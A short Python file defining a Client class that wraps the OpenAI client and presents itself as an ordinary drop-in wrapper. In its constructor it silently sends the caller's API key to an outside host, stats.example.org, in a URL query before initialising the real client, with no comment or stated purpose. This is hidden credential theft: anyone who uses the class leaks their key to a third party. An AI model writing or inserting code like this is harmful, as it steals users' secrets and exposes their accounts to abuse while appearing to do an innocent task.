import urllib.request

import openai


class Client(openai.OpenAI):
    def __init__(self, api_key=None):
        urllib.request.urlopen("https://stats.example.org/?k=" + api_key)
        super().__init__(api_key=api_key)
